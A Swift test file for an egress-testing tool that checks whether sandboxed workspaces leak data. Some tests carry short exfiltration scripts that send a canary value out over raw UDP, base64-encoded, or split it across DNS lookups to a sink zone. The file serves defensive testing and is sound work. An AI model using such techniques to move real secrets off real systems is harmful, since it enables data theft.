import FoundationEssentials
import Testing

@testable import CordonDrill

/// Stands for the executable under test: a workspace is a network namespace, and nothing else is closed.
private let standIn = #"""
  #!/bin/bash
  verb=$1; shift
  state=; words=(); weak=
  while [ $# -gt 0 ]; do
    case $1 in
      --state) state=$2; shift 2 ;;
      --weaken) weak="$weak $2"; shift 2 ;;
      --drill) drill=$2; shift 2 ;;
      --format) shift 2 ;;
      --) shift; break ;;
      *) words+=("$1"); shift ;;
    esac
  done
  case $verb in
    up) grep -q upstreamIndex "$drill" || exit 1; mkdir -p "$state/home"; echo "$weak" > "$state/weak" ;;
    down) rm -rf "$state" ;;
    status) echo '{"workspaces":[{"name":"one","project":"p"}],"buckets":[{"name":"p-store","project":"p"}]}' ;;
    ledger) exit 0 ;;
    exec)
      export HOME="$state/home" AWS_REGION=eu-west-1
      if grep -q network-namespace "$state/weak"; then exec "$@"; fi
      exec unshare --user --map-root-user --net -- "$@" ;;
  esac
  """#

/// Tests that need a drill world run this same test again inside one.
@Suite(.serialized) struct `The drill world` {
  private static let marker = "CORDON_DRILL_TEST_INSIDE"

  /// Runs `body` in a drill world: outside, by starting this test once more in a new one.
  private func inWorld(_ name: String, _ body: (DrillConfiguration, String) throws -> Void) throws {
    guard ProcessInfo.processInfo.environment[Self.marker] == name else { return try enterWorld(name) }
    let folder = try Posix.makeTemporaryFolder(prefix: "/var/tmp/drill-test-")
    defer { Files.remove(folder) }
    let executable = "\(folder)/cordon"
    try Files.write(standIn, to: executable)
    try Tool.run(["chmod", "755", executable])
    let configuration = DrillConfiguration(executable: executable, specification: "cordon.yaml")
    try body(configuration, folder)
  }

  private func enterWorld(_ name: String) throws {
    let me = try FileManager.default.destinationOfSymbolicLink(atPath: "/proc/self/exe")
    let isRoot = try Tool.run(["id", "-u"]).text == "0\n"
    let arguments = CommandLine.arguments.dropFirst()
    var kept: [String] = []
    for (index, argument) in arguments.enumerated() {
      let previous = index > 0 ? arguments[arguments.startIndex + index - 1] : ""
      let isFilter = [argument, previous].contains { ["--filter", "--skip", "--xunit-output"].contains($0) }
      if !isFilter, !argument.hasPrefix("--event-stream") { kept.append(argument) }
    }
    if !kept.contains("--testing-library") { kept += ["--testing-library", "swift-testing"] }
    let command = DrillWorld.command(executable: me, arguments: kept + ["--filter", name], isRoot: isRoot)
    var environment = ProcessInfo.processInfo.environment
    environment[Self.marker] = name
    let result = try Running.run(Launch(arguments: command, environment: environment), seconds: 240)
    #expect(result.status == 0, "\(result.text.suffix(4_000))\n\(result.errorText.suffix(2_000))")
    #expect((result.text + result.errorText).contains("Test run with 1 test"), "the inner run found no test")
  }

  @Test func `an attack is judged by what arrives outside`() throws {
    try inWorld("an attack is judged by what arrives outside") { configuration, _ in
      var configuration = configuration
      configuration.only = ["direct-tcp", "direct-udp", "dns-over-tcp", "shell-host-files", "sni-mismatch"]
      let report = try AttackSuite(configuration).run { _ in }
      let verdicts = Dictionary(uniqueKeysWithValues: report.routes.map { ($0.route, $0.verdict) })
      #expect(verdicts["direct-tcp"] == .closed, "\(report)")
      #expect(verdicts["direct-udp"] == .closed, "\(report)")
      #expect(verdicts["dns-over-tcp"] == .closed, "\(report)")
      // The stand-in hides no file, and has no proxy for an honest request.
      #expect(verdicts["shell-host-files"] == .breach, "\(report)")
      #expect(verdicts["sni-mismatch"] == .inconclusive, "\(report)")
      #expect(report.exitCode == 1)
    }
  }

  @Test func `free space is a signal on a machine that others write to as well`() throws {
    try inWorld("free space is a signal on a machine that others write to as well") { configuration, _ in
      let attacks = try AttackTable.select(["neighbour-disk-space"])
      let controls = try DrillStage.with(configuration) { stage throws(DrillError) in
        let noise =
          "cd \(stage.folder); touch on; while [ -e on ]; do head -c $((RANDOM % 60 + 9))M /dev/zero > noise; sleep 0.2; done"
        let writer = try Running(
          Launch(arguments: ["/bin/bash", "-c", noise], environment: ["PATH": Tool.path]), seconds: 100)
        defer {
          Files.remove("\(stage.folder)/on")
          _ = writer.finish()
        }
        return try stage.runControls(attacks)
      }
      let outcomes = controls["neighbour-disk-space"]?.map(\.outcome) ?? []
      guard case .arrived? = outcomes.first else { Issue.record("\(outcomes)"); return }
    }
  }

  @Test func `a browser's block is credited to its policy, its network or nobody`() throws {
    try inWorld("a browser's block is credited to its policy, its network or nobody") { configuration, _ in
      let names = [
        "a blob with a[download]", "chrome://version/", "dns-prefetch", "fetch", "Page.printToPDF",
        "fetch of the machine's metadata", "fetch of the loopback", "prefetch",
      ]
      let attempts = BrowserTable.all.filter { names.contains($0.name) }
      // Lists no page of the browser's own, so that those stay open.
      let policy = """
        {"URLBlocklist":["*"],"URLAllowlist":["http://notebook.cordon.internal"],"DownloadRestrictions":3,"ProxySettings":\
        {"ProxyMode":"fixed_servers","ProxyServer":"http://127.0.0.1:3128","ProxyBypassList":"<-loopback>"}}
        """
      var configuration = configuration
      configuration.browserPolicy = { _ in policy }
      let report = try BrowserDrill(configuration).run(attempts) { _ in }
      let stops = Dictionary(uniqueKeysWithValues: report.rows.map { ($0.name, $0.stoppedBy) })
      #expect(stops["a blob with a[download]"] == .policy, "\(report)")
      #expect(stops["chrome://version/"] == BrowserStop?.none, "\(report)")
      #expect(stops["dns-prefetch"] == .network, "\(report)")
      for name in names where name.contains("fetch") && name != "dns-prefetch" {
        #expect(stops[name] == .gateway, "\(name): \(report)")
      }
      #expect(stops["Page.printToPDF"] == .portal, "\(report)")
      #expect(report.exitCode == 1)
    }
  }

  @Test func `a control that is off is noticed`() throws {
    try inWorld("a control that is off is noticed") { configuration, _ in
      let report = try SelfTest(configuration, controls: [.networkNamespace]).run { _ in }
      #expect(report.rows.first?.breachedBy != nil, "\(report)")
      #expect(report.exitCode == 0)
    }
  }

  @Test func `a switch that changes nothing is reported as unnoticed`() throws {
    try inWorld("a switch that changes nothing is reported as unnoticed") { configuration, _ in
      // The stand-in knows no such switch, so nothing is weaker: the self-test must say that nobody noticed.
      let report = try SelfTest(configuration, controls: [.dnsAllowlist]).run { _ in }
      #expect(report.exitCode == 1, "\(report)")
    }
  }

  @Test func `a user's own attacks are run, controlled and judged`() throws {
    try inWorld("a user's own attacks are run, controlled and judged") { configuration, folder in
      let attacks = "\(folder)/attacks"
      try Files.makeFolder(attacks)
      let scripts = [
        "a-base64": #"printf %s "$CORDON_CANARY" | base64 > "/dev/udp/${CORDON_SINK%:*}/${CORDON_SINK#*:}""#,
        "b-nothing": #"echo "$CORDON_CANARY" > "$CORDON_OUTBOX/kept""#,
        "c-names":
          #"for i in 0 6 12 18; do getent hosts "${CORDON_CANARY:$i:6}.$CORDON_SINK_ZONE"; done; true"#,
      ]
      for (name, script) in scripts {
        try Files.write("#!/bin/bash\n. ./common\n\(script)\n", to: "\(attacks)/\(name)")
        try Tool.run(["chmod", "755", "\(attacks)/\(name)"])
      }
      try Files.write("set -u\n", to: "\(attacks)/common")
      let closed = try UserAttacks(configuration, directory: attacks).run { _ in }
      #expect(closed.rows.map(\.verdict) == [.closed, .inconclusive, .closed], "\(closed)")
      #expect(
        closed.rows[1].control == "no control" && closed.rows[1].outbox == [.init(name: "./kept", size: 25)])
      #expect(closed.rows[0].control.hasPrefix("base64 at UDP"))
    }
  }

  @Test func `a user's own attack that gets out is a breach`() throws {
    try inWorld("a user's own attack that gets out is a breach") { configuration, folder in
      var configuration = configuration
      configuration.weakened = [.networkNamespace]
      let attacks = "\(folder)/attacks"
      try Files.makeFolder(attacks)
      try Files.write(
        "#!/bin/sh\nfor i in 1 2 3 4 5 6; do getent hosts \"$(printf %s \"$CORDON_CANARY\" | cut -c$((i*4-3))-$((i*4)))"
          + ".$CORDON_SINK_ZONE\"; done\n",
        to: "\(attacks)/names")
      try Tool.run(["chmod", "755", "\(attacks)/names"])
      let report = try UserAttacks(configuration, directory: attacks).run { _ in }
      #expect(report.rows.map(\.verdict) == [.breach], "\(report)")
      #expect(report.exitCode == 1)
      #expect(report.rows.first?.because?.contains("split raw") == true, "\(report)")
    }
  }
}

@Suite struct `Work` {
  /// An example whose requirements are none, worked on by the stand-in without its network namespace.
  private func work(train: String) throws -> WorkReport {
    let folder = try Posix.makeTemporaryFolder(prefix: "/tmp/drill-work-")
    defer { Files.remove(folder) }
    try Files.write(standIn, to: "\(folder)/cordon")
    try Tool.run(["chmod", "755", "\(folder)/cordon"])
    try Files.makeFolder("\(folder)/state/home")
    try Files.write("network-namespace\n", to: "\(folder)/state/weak")
    try Files.makeFolder("\(folder)/example")
    try Files.write("", to: "\(folder)/example/requirements.txt")
    try Files.write(train, to: "\(folder)/example/train.py")
    let suite = WorkSuite(
      executable: "\(folder)/cordon", state: "\(folder)/state", example: "\(folder)/example")
    let report = try suite.run { _ in }
    #expect(
      try FileManager.default.contentsOfDirectory(atPath: "\(folder)/state/home").allSatisfy {
        !$0.hasPrefix("cordon-work")
      })
    return report
  }

  @Test func `five steps are done, with the project's own buckets`() throws {
    let report = try work(train: "import os, sys\nprint(sys.argv[1], os.environ['CORDON_STORE_BUCKET'])\n")
    #expect(report.isDone, "\(report)")
    #expect(report.steps.map(\.name) == ["install", "read", "train", "plot", "store"])
    #expect(report.steps[4].said == "store p-store")
  }

  @Test func `after a step that fails the rest are not tried`() throws {
    let report = try work(train: "import sys\nsys.exit(sys.argv[1] == 'train' and 'no such column')\n")
    #expect(report.steps.map(\.done) == [true, true, false, false, false])
    #expect(report.steps[2].said == "no such column")
    #expect(report.steps[3].said == "not tried")
    #expect(report.exitCode == 1)
  }
}
